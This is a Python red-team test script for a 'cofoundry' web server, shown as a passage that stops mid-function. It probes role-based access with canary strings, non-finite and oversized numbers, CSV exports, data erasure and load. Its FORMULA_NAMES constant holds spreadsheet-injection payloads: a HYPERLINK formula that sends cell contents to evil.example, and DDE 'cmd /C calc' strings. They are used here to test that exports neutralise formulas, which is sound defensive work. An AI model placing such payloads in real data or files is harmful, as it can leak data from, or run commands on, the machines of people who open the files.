"""Red-team pass over a running server, to run before a release (issue 16).

Usage::

    python bench/redteam.py                 # every section, 2 workers (about 2 minutes)
    python bench/redteam.py --quick         # the suite's configuration: no load section
    python bench/redteam.py --sections matrix,numbers --keep

It starts ``cofoundry serve --workers 2`` on a temporary database with the fake encoder,
seeds two communities over HTTP and talks to the server only through HTTP (and the
``cofoundry`` command line for the CLI exports). Every route comes from ``/openapi.json``,
so a new route is covered without editing this file. Sections:

``matrix``
    Every operation as six roles: anonymous, a bad token, a member of the same community
    (``bob``: in ana's venture and event), a member of another community (``zed``), the
    organiser of another community (``oli``), and the owner (``ana``, whose objects fill
    the path parameters). Each answer is searched for canary strings the role may not see
    (ana's e-mail, her private note, a private attendee's name, the ledger's note...);
    its status and media type must be documented. The outsiders run first (their DELETEs
    too), then ana's world is read again: it must be as it was.
``numbers``
    Every number of every JSON body (from the schema, nested ones too) sent as ``NaN``,
    ``Infinity``, ``-Infinity``, ``1e999``, ``-1e999`` and an integer of 5,000 digits in an
    otherwise valid body: a 422 naming the field; oversized ones (``1e308``, ``10**30``): never a 5xx; numeric query and
    path parameters likewise.
``csv``
    Every operation documented as ``text/csv``, once people with formula names
    (``=HYPERLINK(...)``) are in ana's pipeline and event, and the CLI's CSV exports
    (``event export``, ``pipeline --csv``, ``import --rejected``): no cell a spreadsheet
    would run.
``erasure``
    A canary member (a uuid in every field; a sign-up with an ``Idempotency-Key``) takes
    part in suggestions, trust, an introduction, a venture and an event, then ``DELETE
    /me``: the canary must be in none of the database, its WAL and shared memory, the
    saved index, the server's log, the other members' answers (trust list, paths,
    suggestions, ledger, plan), nor replayed from the stored sign-up response; checked
    again after the server stopped (each worker saves its index on the way out).
``load``
    ``--writers`` threads writing (sign-ups, ledger entries) and ``--readers`` threads
    reading for ``--seconds`` against the 2 workers: no 5xx.

It prints one table and exits 1 on any leak, 5xx or other finding (listed under the table).
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import csv
import io
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from api.settings import Settings  # noqa: E402
from api.wiring import build_community  # noqa: E402

SECTIONS = ("matrix", "numbers", "csv", "erasure", "load")
QUICK = ("matrix", "numbers", "csv", "erasure")
ROLES = ("anonymous", "bad_token", "other_member", "other_organiser", "same_member", "owner")
OUTSIDERS = ("anonymous", "bad_token", "other_member", "other_organiser")
NON_FINITE = ("NaN", "Infinity", "-Infinity", "1e999", "-1e999")
OVERSIZED = ("1e308", "-1e308", str(10**30), str(-(10**30)))
#: An integer longer than Python reads (4,300 digits): a 422 naming the field, as NaN is
TOO_MANY_DIGITS = "9" * 5000
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
_FORMULA_START = tuple("=+-@\t\r")
_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?(/\d+)?$")
_SIMPLE_PATTERN_VALUES = ("redteam", "rt-1", "a1", "x")
VERBOSE = False  # --verbose: one line per request


# ------------------------------------------------------------------ results
@dataclass
class Section:
    """What one section sent and found."""

    name: str
    statuses: collections.Counter[int] = field(default_factory=collections.Counter)
    server_errors: list[str] = field(default_factory=list)
    leaks: list[str] = field(default_factory=list)
    findings: list[str] = field(default_factory=list)
    seconds: float = 0.0

    def count(self, status: int, what: str, *, designed: bool = False) -> None:
        """Count an answer; a 5xx is a server error unless ``designed`` (a documented 503
        such as ``/ready`` while the search state catches up)."""
        self.statuses[status] += 1
        if VERBOSE:
            print(f"    {self.name}: {status} {what}", flush=True)
        if status >= 500 and not (designed and status == 503):
            self.server_errors.append(f"{status} on {what}")

    @property
    def requests(self) -> int:
        return sum(self.statuses.values())

    def of(self, low: int) -> int:
        return sum(n for s, n in self.statuses.items() if low <= s < low + 100)

    @property
    def ok(self) -> bool:
        return not self.leaks and not self.findings and not self.server_errors

    def problems(self) -> list[str]:
        """Every 5xx (the same one counted once, with how often), leak and finding."""
        errors = collections.Counter(self.server_errors)
        said = [what if n == 1 else f"{what} (x{n})" for what, n in errors.most_common()]
        return said + self.leaks + self.findings


def dangerous_cells(text: str) -> list[str]:
    """The cells of a CSV document a spreadsheet would run as a formula.

    >>> dangerous_cells('name,score\\n=1+1,-0.5\\n"\\'=1+1",2/3\\n')
    ['=1+1']
    """
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(_FORMULA_START) and not _NUMBER.match(cell)
    ]


def leaked(text: str, canaries: dict[str, str], allowed: set[str]) -> list[str]:
    """The names of the canaries in ``text`` that are not ``allowed``.

    >>> leaked("hello c-123 and c-456", {"email": "c-123", "note": "c-456"}, {"note"})
    ['email']
    """
    return [name for name, value in canaries.items() if name not in allowed and value in text]


# ------------------------------------------------------------------ the server
#: The status counted for a request the server dropped (a reset connection, no answer).
DROPPED = 599


class _Survive(httpx.HTTPTransport):
    """A transport that reports a dropped connection as an answer with status 599 (a
    finding, counted with the 5xx) instead of an exception, so the run goes on."""

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        try:
            return super().handle_request(request)
        except httpx.TransportError as exc:
            return httpx.Response(DROPPED, text=f"connection dropped: {exc!r}", request=request)


def connect(base: str) -> httpx.Client:
    """An HTTP client to the server whose dropped connections answer 599."""
    return httpx.Client(base_url=base, timeout=120, transport=_Survive())


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _clean_env() -> dict[str, str]:
    """The environment without any ``COFOUNDRY_*`` setting of the caller's shell."""
    return {k: v for k, v in os.environ.items() if not k.startswith("COFOUNDRY_")}


def cli(*args: str, db: Path, check: bool = True) -> subprocess.CompletedProcess[str]:
    """Run the ``cofoundry`` command line of this checkout on ``db``."""
    env = _clean_env() | {"PYTHONPATH": str(ROOT), "COFOUNDRY_DB": str(db)}
    env |= {"COFOUNDRY_ENCODER": "fake", "COFOUNDRY_LOG": "ERROR"}
    done = subprocess.run(
        [sys.executable, "-c", "from api.cli import main; main()", *args],
        env=env,
        cwd=db.parent,
        capture_output=True,
        text=True,
        timeout=300,
    )
    if check and done.returncode != 0:
        raise RuntimeError(f"cofoundry {' '.join(args)}: {done.stdout}{done.stderr}")
    return done


class Server:
    """``cofoundry serve`` on a temporary database, its log in a file."""

    def __init__(self, folder: Path, workers: int) -> None:
        self.folder = folder
        self.db = folder / "redteam.db"
        self.log = folder / "server.log"
        self.workers = workers
        self.port = _free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        self.proc: subprocess.Popen[bytes] | None = None

    def start(self) -> None:
        env = _clean_env() | {
            "PYTHONPATH": str(ROOT),
            "COFOUNDRY_DB": str(self.db),
            "COFOUNDRY_ENCODER": "fake",
            "COFOUNDRY_INDEX_KIND": "flat",
            "COFOUNDRY_LOG_LEVEL": "DEBUG",  # the most the logs ever hold
            "COFOUNDRY_SIGNUP_BURST": "1000000",
            "COFOUNDRY_TOKEN_BURST": "1000000",
            "COFOUNDRY_AUTH_FAILURE_BURST": "1000000",
            "COFOUNDRY_INTRO_BURST": "1000000",
            "COFOUNDRY_INTRO_WEEKLY_LIMIT": "1000000",
        }
        with self.log.open("ab") as log:
            self.proc = subprocess.Popen(
                [
                    *(sys.executable, "-c", "from api.cli import main; main()", "serve"),
                    *("--port", str(self.port), "--workers", str(self.workers)),
                ],
                env=env,
                cwd=self.folder,
                stdout=log,
                stderr=log,
                start_new_session=True,
            )
        deadline = time.monotonic() + 120
        while True:
            with contextlib.suppress(httpx.HTTPError):
                if httpx.get(self.base + "/ready", timeout=2).status_code == 200:
                    return
            if self.proc.poll() is not None:
                raise RuntimeError(f"the server exited: {self.log.read_text()[-2000:]}")
            if time.monotonic() > deadline:
                raise RuntimeError("the server did not become ready in 120 s")
            time.sleep(0.2)

    def stop(self) -> None:
        if self.proc is None or self.proc.poll() is not None:
            return
        os.killpg(self.proc.pid, signal.SIGTERM)
        try:
            self.proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            os.killpg(self.proc.pid, signal.SIGKILL)
            self.proc.wait(timeout=30)

    def files_holding(self, needle: str) -> list[str]:
        """The database, WAL, shared-memory, index and log files that hold ``needle``."""
        raw = needle.encode()
        return [
            p.name for p in sorted(self.folder.iterdir()) if p.is_file() and raw in p.read_bytes()
        ]


# ------------------------------------------------------------------ the world
def _person(pid: str, **fields: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "id": pid,
        "name": pid.title(),
        "offers": "Sales lead: I find customers and close deals.",
        "needs": "A technical partner, a developer who can code the product.",
        "roles_offered": "sales",
        "roles_sought": "tech",
        "languages": "en",
        "utc_offset": "1",
    }
    return base | fields


@dataclass
class World:
    """The seeded communities: tokens per role, the owner's object ids, the canaries."""

    server: Server
    tokens: dict[str, str]
    ids: dict[str, str]
    canaries: dict[str, str]
    allowed: dict[str, set[str]]

    def headers(self, role: str) -> dict[str, str]:
        if role == "anonymous":
            return {}
        if role == "bad_token":
            return {"Authorization": "Bearer cf1_" + "A" * 43 + "_AAAAAA"}
        return {"Authorization": f"Bearer {self.tokens[role]}"}


def _must(r: httpx.Response, *ok: int) -> httpx.Response:
    if r.status_code not in (ok or (200, 201)):
        raise RuntimeError(
            f"seeding: {r.request.method} {r.request.url.path}: {r.status_code} {r.text[:300]}"
        )
    return r


def seed(server: Server) -> World:
    """Two communities: ana's (bob, cyd, dan, a private attendee, people with formula
    names) and oli's (zed); every private thing of ana's holds a canary."""
    c = {k: f"cnry-{k}-{uuid.uuid4().hex[:12]}" for k in ("email", "members", "private", "note")}
    c |= {k: f"cnry-{k}-{uuid.uuid4().hex[:12]}" for k in ("ledger", "venture", "event", "intro")}
    c["event_b"] = f"cnry-event_b-{uuid.uuid4().hex[:12]}"
    ana_text = f"Python developer, backend and APIs ({c['members']})."
    people = [
        _person("ana", offers=ana_text, needs="Sales, customers, a business partner.")
        | {"roles_offered": "tech", "roles_sought": "sales", "visibility": "members"}
        | {"email": f"{c['email']}@example.org"},
        _person("bob"),
        _person("cyd"),
        _person("dan"),
        _person("pia", name=f"Pia {c['private']}", offers=f"Design {c['private']}")
        | {"visibility": "private"},
        _person("oli", roles_offered="operations"),
        _person("zed", roles_offered="finance"),
        *(_person(f"evil{i}", name=name) for i, name in enumerate(FORMULA_NAMES)),
    ]
    settings = Settings(
        db=str(server.db),
        index_path=server.db.with_suffix(".index"),
        encoder="fake",
        index_kind="flat",
        log_json=False,
    )
    service = build_community(settings)
    service.profiles.import_profiles(people)
    tokens = {
        "owner": service.security.create_token("ana"),
        "same_member": service.security.create_token("bob"),
        "other_member": service.security.create_token("zed"),
        "other_organiser": service.security.create_token("oli"),
        "cyd": service.security.create_token("cyd"),
        "admin": service.security.create_token(None, role="admin"),
    }
    pia = {"Authorization": f"Bearer {service.security.create_token('pia')}"}
    service.close()
    server.start()
    h = {k: {"Authorization": f"Bearer {t}"} for k, t in tokens.items()}
    ids: dict[str, str] = {}
    with connect(server.base) as s:
        ana, bob, oli = h["owner"], h["same_member"], h["other_organiser"]
        venture = {"id": "va", "name": f"Acme {c['venture']}", "start": "2024-01-01"}
        exact = {"owner": "ana", "exact": True}  # only an admin's id is exact
        _must(s.post("/ventures", json=venture | exact, headers=h["admin"]))
        # the sole founder's own opening salary applies at once
        rate = {"member": "ana", "effective": "2024-01-01", "salary": "90000"}
        _must(s.post("/ventures/va/rates", json=rate, headers=ana | {"Idempotency-Key": "ana"}))
        # people join by accepting an invitation (issue 17)
        _must(s.post("/ventures/va/members", json={"member": "bob"}, headers=ana))
        _must(s.post("/ventures/va/invitation", json={"accept": True}, headers=bob))
        # bob's opening salary, set by the owner, waits for bob's word
        rate = {"member": "bob", "effective": "2024-01-01", "salary": "90000"}
        r = _must(s.post("/ventures/va/rates", json=rate, headers=ana), 202)
        answer = {"accept": True}
        _must(
            s.post(
                f"/ventures/va/proposals/{r.json()['proposal']}/answer", json=answer, headers=bob
            )
        )
        # a private member an admin invited: ana and bob work with someone they may not see
        _must(s.post("/ventures/va/members", json={"member": "pia"}, headers=h["admin"]))
        _must(s.post("/ventures/va/invitation", json={"accept": True}, headers=pia))
        entry = {"member": "ana", "kind": "time", "on": "2024-01-02", "hours": "10"}
        entry["note"] = f"design work {c['ledger']}"
        r = _must(
            s.post("/ventures/va/entries", json=entry, headers=ana | {"Idempotency-Key": "e1"})
        )
        ids["number"] = str(r.json()["number"])
        _must(s.post("/events", json={"id": "ev-a", "name": f"Night {c['event']}"}, headers=ana))
        attendees = ["ana", "bob", "cyd", "dan", *(f"evil{i}" for i in range(len(FORMULA_NAMES)))]
        _must(s.post("/events/ev-a/attendees", json={"ids": attendees}, headers=ana))
        _must(s.post("/events/ev-a/attendees", json={"ids": ["pia"]}, headers=h["admin"]))
        _must(s.post("/events/ev-a/rounds", json={"rounds": 3}, headers=ana))
        _must(s.post("/events/ev-a/teams", json={"size": 3, "time_limit": 1}, headers=ana))
        collab = {"partner": "bob", "project": "shop", "started": "2024-01-01", "rating": 2}
        collab["note"] = f"reliable {c['note']}"
        r = _must(s.post("/me/collaborations", json=collab, headers=ana))
        ids["collab_id"] = r.json()["id"]
        _must(
            s.post(
                f"/me/collaborations/{ids['collab_id']}/answer", json={"confirm": True}, headers=bob
            )
        )
        intro = {"target": "cyd", "message": f"hello {c['intro']}"}
        ids["intro_id"] = _must(s.post("/me/introductions", json=intro, headers=ana)).json()["id"]
        _must(s.put("/me/avoid/dan", headers=ana))
        _must(s.post("/profiles/ana/endorsements", json={"skill": "python"}, headers=bob))
        _must(s.post("/events", json={"id": "ev-b", "name": f"B {c['event_b']}"}, headers=oli))
        _must(s.post("/events/ev-b/attendees", json={"ids": ["oli", "zed"]}, headers=oli))
        vb = {"id": "vb", "start": "2024-01-01", "owner": "oli", "exact": True}
        _must(s.post("/ventures", json=vb, headers=h["admin"]))
        _must(s.post("/ventures/vb/members", json={"member": "zed"}, headers=oli))
        zed = h["other_member"]
        _must(s.post("/ventures/vb/invitation", json={"accept": True}, headers=zed))
    ids |= {"profile_id": "ana", "other_id": "ana", "venture_id": "va", "event_id": "ev-a"}
    ids |= {"skill": "python", "team": "1", "fmt": "csv"}
    members = {"members"}
    allowed = {
        "anonymous": set(),
        "bad_token": set(),
        "other_member": members | {"event_b"},
        "other_organiser": members | {"event_b"},
        "same_member": members | {"ledger", "venture", "event"},
        "owner": set(c) - {"private", "event_b"},
    }
    return World(server, tokens, ids, c, allowed)


# ------------------------------------------------------------------ the schema
class Schema:
    """The OpenAPI document: operations, example bodies, number fields."""

    def __init__(self, doc: dict[str, Any]) -> None:
        self.doc = doc
        self.components = doc.get("components", {}).get("schemas", {})

    def operations(self) -> Iterator[tuple[str, str, dict[str, Any]]]:
        for path, item in self.doc["paths"].items():
            for method, op in item.items():
                if method in ("get", "post", "put", "patch", "delete"):
                    yield method.upper(), path, op

    def resolve(self, node: dict[str, Any]) -> dict[str, Any]:
        while "$ref" in node:
            node = self.components[node["$ref"].rsplit("/", 1)[-1]]
        return node

    def json_body(self, op: dict[str, Any]) -> dict[str, Any] | None:
        content = op.get("requestBody", {}).get("content", {})
        if "application/json" not in content:
            return None
        return self.resolve(content["application/json"].get("schema", {}))

    def example(
        self, node: dict[str, Any], name: str = "", values: dict[str, Any] | None = None
    ) -> Any:
        """A valid value of ``node``: required properties only, the smallest numbers."""
        values = values or {}
        node = self.resolve(node)
        if name in values:
            return values[name]() if callable(values[name]) else values[name]
        for key in ("anyOf", "oneOf"):
            if key in node:
                options = [o for o in node[key] if self.resolve(o).get("type") != "null"]
                return self.example(options[0], name, values) if options else None
        if "enum" in node:
            return node["enum"][0]
        if "const" in node:
            return node["const"]
        kind = node.get("type")
        if kind == "object" or "properties" in node:
            props = node.get("properties", {})
            wanted = [
                k for k in props if k in node.get("required", []) or values.get(k) is not None
            ]
            return {k: self.example(props[k], k, values) for k in wanted}
        if kind == "array":
            return [
                self.example(node.get("items", {}), name, values)
                for _ in range(node.get("minItems", 0))
            ]
        if kind == "integer":
            return int(
                node.get(
                    "minimum",
                    node.get("exclusiveMinimum", 0) + 1 if "exclusiveMinimum" in node else 1,
                )
            )
        if kind == "number":
            low = node.get("minimum", node.get("exclusiveMinimum"))
            return 1 if low is None or low < 1 <= node.get("maximum", 1) else low + 1
        if kind == "boolean":
            return False
        if node.get("format") == "date":
            return "2024-03-01"
        if node.get("format") == "date-time":
            return "2024-03-01T00:00:00Z"
        pattern = node.get("pattern")
        for candidate in _SIMPLE_PATTERN_VALUES:
            if (pattern is None or re.search(pattern, candidate)) and node.get(
                "minLength", 0
            ) <= len(candidate) <= node.get("maxLength", 100):
                return candidate
        return "x" * max(1, node.get("minLength", 1))

    def number_fields(self, node: dict[str, Any], prefix: str = "") -> Iterator[str]:
        """Dotted paths of every number and integer property, nested objects included."""
        node = self.resolve(node)
        for key, prop in node.get("properties", {}).items():
            prop = self.resolve(prop)
            options = [self.resolve(o) for o in prop.get("anyOf", [prop])]
            for option in options:
                if option.get("type") in ("number", "integer"):
                    yield prefix + key
                    break
                if option.get("type") == "object" or "properties" in option:
                    yield from self.number_fields(option, f"{prefix}{key}.")
                    break

    def documented(self, method: str, path: str, status: int) -> tuple[bool, set[str]]:
        """Whether ``status`` is documented for the operation, and its media types."""
        responses = self.doc["paths"][path][method.lower()]["responses"]
        entry = responses.get(str(status))
        return entry is not None, set((entry or {}).get("content", {}))


def _body_values(world: World) -> dict[str, Any]:
    """Values by property name that make an example body point at ana's world."""
    return {
        "id": lambda: f"rt{uuid.uuid4().hex[:10]}",
        "member": "ana",
        "partner": "ana",
        "target": "ana",
        "profile_id": None,
        "ids": ["ana"],
        "skill": "python",
        "project": "redteam",
        "rounds": 2,
        "size": 2,
        "time_limit": 1,
        "context": "event:ev-a",
        "message": "hello",
        "about": "bob",
        "hours": 2,
        "effective": "2030-01-01",
    }


def _url(path: str, ids: dict[str, str], op: dict[str, Any]) -> str:
    url = re.sub(r"\{([^}]+)\}", lambda m: ids.get(m.group(1), "x"), path)
    query = []
    for p in op.get("parameters", []):
        if p["in"] == "query" and p["name"] == "format":
            enum = Schema({}).resolve(p.get("schema", {})).get("enum", [])
            if "csv" in enum:
                query.append("format=csv")
    return url + ("?" + "&".join(query) if query else "")


def _request(
    client: httpx.Client,
    schema: Schema,
    method: str,
    path: str,
    op: dict[str, Any],
    world: World,
    role: str,
    *,
    body: Any = ...,
    raw: bytes | None = None,
    url: str | None = None,
) -> httpx.Response:
    headers = world.headers(role)
    if any(
        p["in"] == "header" and p["name"].lower() == "idempotency-key"
        for p in op.get("parameters", [])
    ):
        headers["Idempotency-Key"] = uuid.uuid4().hex
    content = op.get("requestBody", {}).get("content", {})
    kwargs: dict[str, Any] = {}
    if raw is not None:
        kwargs["content"] = raw
        headers["Content-Type"] = "application/json"
    elif "application/json" in content:
        node = schema.json_body(op) or {}
        kwargs["json"] = schema.example(node, values=_body_values(world)) if body is ... else body
    elif "text/csv" in content:
        kwargs["content"] = (
            f"id,name,offers,needs\nrt{uuid.uuid4().hex[:8]},R,code,sales\n".encode()
        )
        headers["Content-Type"] = "text/csv"
    return client.request(method, url or _url(path, world.ids, op), headers=headers, **kwargs)


# ------------------------------------------------------------------ sections
def _snapshot(client: httpx.Client, world: World) -> dict[str, str]:
    """Ana's world as she reads it: what outsiders must not be able to change."""
    paths = (
        "/profiles/ana",
        "/ventures/va",
        "/ventures/va/ledger",
        "/ventures/va/split",
        "/ventures/va/departures",
        "/events/ev-a",
        "/events/ev-a/rounds",
        "/events/ev-a/teams",
        "/me/avoid",
    )
    return {p: client.get(p, headers=world.headers("owner")).text for p in paths}


def matrix(world: World, schema: Schema) -> Section:
    """Every operation as every role: no 5xx, no canary out of place, documented answers."""
    out = Section("matrix")

    def order(o: tuple[str, str, dict[str, Any]]) -> tuple[bool, bool, str, str]:
        erases_me = o[0] == "DELETE" and o[1] in ("/me", "/profiles/{profile_id}")
        return o[0] == "DELETE", erases_me, o[1], o[0]  # a role erases itself last

    ops = sorted(schema.operations(), key=order)
    with connect(world.server.base) as client:
        before = _snapshot(client, world)
        for role in ROLES:
            if role == "same_member":  # the outsiders are done: ana's world is as it was
                after = _snapshot(client, world)
                for p in before:
                    if before[p] != after[p]:
                        out.findings.append(f"an outsider changed ana's {p}")
            for method, path, op in ops:
                r = _request(client, schema, method, path, op, world, role)
                what = f"{method} {path} as {role}"
                known, media = schema.documented(method, path, r.status_code)
                out.count(r.status_code, what, designed=known)
                for name in leaked(r.text + str(r.headers), world.canaries, world.allowed[role]):
                    out.leaks.append(f"{what}: {name} canary ({r.status_code})")
                got = r.headers.get("content-type", "").split(";")[0]
                if not known and r.status_code != 500:
                    out.findings.append(f"{what}: status {r.status_code} not documented")
                elif got and media and got not in media:
                    out.findings.append(
                        f"{what}: {got} not documented ({', '.join(sorted(media))})"
                    )
    return out


def numbers(world: World, schema: Schema, tokens: tuple[str, ...]) -> Section:
    """Non-finite and oversized numbers in every number field, as the owner."""
    out = Section("numbers")
    values = _body_values(world)
    with connect(world.server.base) as client:
        for method, path, op in schema.operations():
            node = schema.json_body(op)
            for dotted in schema.number_fields(node or {}):
                for token in tokens + OVERSIZED:
                    body = schema.example(node or {}, values=values)
                    marker = "__redteam_number__"
                    target = body
                    *outer, last = dotted.split(".")
                    for part in outer:
                        target = target.setdefault(part, {})
                    target[last] = marker
                    raw = json.dumps(body).replace(f'"{marker}"', token).encode()
                    r = _request(client, schema, method, path, op, world, "owner", raw=raw)
                    shown = token if len(token) < 20 else f"{token[:8]}...({len(token)} digits)"
                    what = f"{method} {path} {dotted}={shown}"
                    out.count(r.status_code, what)
                    if token in tokens:
                        if r.status_code != 422:
                            out.findings.append(f"{what}: {r.status_code}, not 422")
                        elif not _names(r, dotted):
                            out.findings.append(f"{what}: the 422 does not name {dotted}")
            for p in op.get("parameters", []):
                kind = schema.resolve(p.get("schema", {}))
                kinds = {kind.get("type")} | {
                    schema.resolve(o).get("type") for o in kind.get("anyOf", [])
                }
                if p["in"] not in ("query", "path") or not kinds & {"integer", "number"}:
                    continue
                for token in (*tokens, "9" * 40):
                    ids = world.ids | {p["name"]: token}
                    url = _url(path, ids, op)
                    if p["in"] == "query":
                        url += ("&" if "?" in url else "?") + f"{p['name']}={token}"
                    r = _request(client, schema, method, path, op, world, "owner", url=url)
                    shown = token if len(token) < 50 else f"{token[:8]}...({len(token)} digits)"
                    what = f"{method} {path} {p['name']}={shown}"
                    out.count(r.status_code, what)
                    if r.status_code != 422:
                        out.findings.append(f"{what}: {r.status_code}, not 422")
    return out


def _names(r: httpx.Response, dotted: str) -> bool:
    with contextlib.suppress(ValueError):
        body = r.json()
        if body.get("field") == dotted:
            return True
        want = dotted.split(".")
        return any(
            [str(x) for x in e.get("loc", [])][-len(want) :] == want for e in body.get("errors", [])
        )
    return False


def csv_exports(world: World, schema: Schema) -> Section:
    """Every CSV the product writes, with formula names in the data: nothing runs."""
    out = Section("csv")
    with connect(world.server.base) as client:
        for method, path, op in schema.operations():
            _, media = schema.documented(method, path, 200)
            if method != "GET" or "text/csv" not in media:
                continue
            r = _request(client, schema, method, path, op, world, "owner")
            what = f"{method} {path}"
            out.count(r.status_code, what)
            if r.status_code != 200 or not r.headers.get("content-type", "").startswith("text/csv"):
                out.findings.append(f"{what}: {r.status_code} {r.headers.get('content-type')}")
                continue
            _check_cells(out, what, r.text)
    db = world.server.db
    exports = {
        "cofoundry event export ev-a": cli("event", "export", "ev-a", db=db).stdout,
        "cofoundry pipeline ana --csv": cli("pipeline", "ana", "--csv", "--k", "20", db=db).stdout,
    }
    folder = Path(tempfile.mkdtemp(dir=world.server.folder))
    bad = folder / "people.csv"
    rows = [_person("ok1")] + [
        _person(f"bad{i}", name=name, commitment="weekends") for i, name in enumerate(FORMULA_NAMES)
    ]
    with bad.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=[*rows[0], "commitment"])
        writer.writeheader()
        writer.writerows(rows)
    cli(
        "import",
        str(bad),
        "--skip-invalid",
        "--rejected",
        str(folder / "rejected.csv"),
        db=folder / "import.db",
    )
    exports["cofoundry import --rejected"] = (folder / "rejected.csv").read_text(encoding="utf-8")
    for what, text in exports.items():
        out.count(200, what)
        _check_cells(out, what, text)
    return out


def _check_cells(out: Section, what: str, text: str) -> None:
    header = next(csv.reader(io.StringIO(text)), [])
    named = "name" in header  # a timeline names members by id (never a formula sign)
    if named and not any(name.lstrip("=+-@")[:8] in text for name in FORMULA_NAMES):
        out.findings.append(f"{what}: the formula-named people are not in it (nothing tested)")
    for cell in dangerous_cells(text):
        out.leaks.append(f"{what}: a formula cell {cell[:40]!r}")


def erasure(world: World) -> tuple[Section, Callable[[], None]]:
    """The canary member, erased: then nowhere. Returns the section and a check to run
    once the server has stopped (each worker saves its index as it stops)."""
    out = Section("erasure")
    canary = uuid.uuid4().hex
    me = "kz" + uuid.uuid4().hex[:12]
    srv = world.server
    sign_up = _person(
        me,
        name=f"Kenza {canary}",
        headline=f"CTO {canary}",
        offers=f"Python developer backend code {canary}",
        needs=f"sales customers {canary}",
        values=f"transparency {canary}",
        location=f"Lyon {canary}",
        email=f"{canary}@example.org",
    ) | {"roles_offered": ["tech"], "roles_sought": ["sales"], "languages": ["en"], "utc_offset": 1}
    key = {"Idempotency-Key": f"signup-{canary}"}
    ana, bob = world.headers("owner"), world.headers("same_member")

    def step(r: httpx.Response, what: str, *ok: int) -> httpx.Response:
        out.count(r.status_code, what)
        if r.status_code not in (ok or (200, 201)):
            out.findings.append(f"{what}: {r.status_code} {r.text[:120]}")
        return r

    with connect(srv.base) as s:
        r = step(s.post("/profiles", json=sign_up, headers=key), "sign-up")
        mine = {"Authorization": f"Bearer {r.json()['token']}"}
        token = r.json()["token"]
        step(s.get(f"/profiles/{me}/matches", headers=mine), "my matches")
        step(s.get("/profiles/ana/matches?k=20", headers=ana), "ana's matches")
        collab = {"partner": "ana", "project": f"p {canary}", "started": "2024-01-01", "rating": 2}
        cid = step(
            s.post("/me/collaborations", json=collab | {"note": canary}, headers=mine), "collab"
        ).json()["id"]
        step(
            s.post(f"/me/collaborations/{cid}/answer", json={"confirm": True}, headers=ana),
            "confirm",
        )
        step(
            s.post(f"/profiles/{me}/endorsements", json={"skill": "python"}, headers=ana), "endorse"
        )
        step(
            s.post("/me/introductions", json={"target": "bob", "message": canary}, headers=mine),
            "intro",
        )
        vc = {"id": "vc", "name": "C", "start": "2024-01-01", "owner": "ana", "exact": True}
        step(s.post("/ventures", json=vc, headers=world.headers("admin")), "venture")
        step(s.post("/ventures/vc/members", json={"member": me}, headers=ana), "member")
        step(s.post("/ventures/vc/invitation", json={"accept": True}, headers=mine), "join")
        entry = {"member": me, "kind": "cash", "on": "2024-01-03", "amount": "50", "note": canary}
        step(
            s.post("/ventures/vc/entries", json=entry, headers=mine | {"Idempotency-Key": canary}),
            "entry",
        )
        step(s.post("/events", json={"id": "ev-c"}, headers=ana), "event")
        step(
            s.post("/events/ev-c/attendees", json={"ids": ["ana", me, "bob", "cyd"]}, headers=ana),
            "attend",
        )
        step(s.post("/events/ev-c/rounds", json={"rounds": 2}, headers=ana), "rounds")
        step(s.get("/me/trust", headers=ana), "trust")
        if not srv.files_holding(canary):
            out.findings.append("the canary was never on disk: nothing tested")
        step(s.delete("/me", headers=mine), "erase")
        for holder in srv.files_holding(canary) + srv.files_holding(me):
            out.leaks.append(f"after the erasure, {holder} holds the canary")
        reads = (
            "/me/collaborations",
            "/me/trust",
            "/me/introductions",
            "/profiles/ana/matches?k=50",
            "/profiles/ana/endorsements",
            "/ventures/vc/ledger",
            "/ventures/vc/split",
            "/events/ev-c/plan",
            "/events/ev-c/plan?format=json",
            "/events/ev-c/agendas",
            "/events/ev-c/cards",
            "/events/ev-c/stats",
            "/me/export",
            "/me/pipeline?format=csv",
        )
        for who, h in (("ana", ana), ("bob", bob)):
            for path in reads:
                r = step(s.get(path, headers=h), f"GET {path} as {who}", 200, 403, 404)
                if canary in r.text or me in r.text:
                    out.leaks.append(f"GET {path} as {who} names the erased member")
        step(s.get(f"/me/paths/{me}", headers=ana), "a path to the erased member", 404)
        step(s.get("/me", headers=mine), "the erased token", 401)
        # the same sign-up again (its Idempotency-Key too): the erased id is never given
        # again, refused in the words of a live member's id (saying "erased" would tell
        # that the person existed), and nothing is answered from the erased one's response
        again = step(s.post("/profiles", json=sign_up, headers=key), "the sign-up, retried", 409)
        if again.headers.get("idempotent-replayed") == "true" or token in again.text:
            out.leaks.append(
                "the retried sign-up was answered from the erased member's stored response"
            )
        if "erase" in again.text.lower():
            out.leaks.append("the retried sign-up's refusal says the id was erased")
        if again.status_code == 201:  # the erased id given again: erase the newcomer too
            out.findings.append("the erased member's id was given to a new sign-up")
            step(
                s.delete("/me", headers={"Authorization": f"Bearer {again.json()['token']}"}),
                "erase again",
            )

    def after_stop() -> None:
        for holder in srv.files_holding(canary) + srv.files_holding(me):
            out.leaks.append(f"after the server stopped, {holder} holds the canary")

    return out, after_stop


def load(world: World, *, writers: int, readers: int, seconds: float) -> Section:
    """Concurrent writers and readers against the workers: every answer below 500."""
    out = Section("load")
    stop = time.monotonic() + seconds
    lock = threading.Lock()

    def count(r: httpx.Response, what: str) -> None:
        with lock:
            out.count(r.status_code, what)

    def writer(i: int) -> None:
        h = world.headers("owner")
        with connect(world.server.base) as c:
            n = 0
            while time.monotonic() < stop:
                n += 1
                if n % 2:
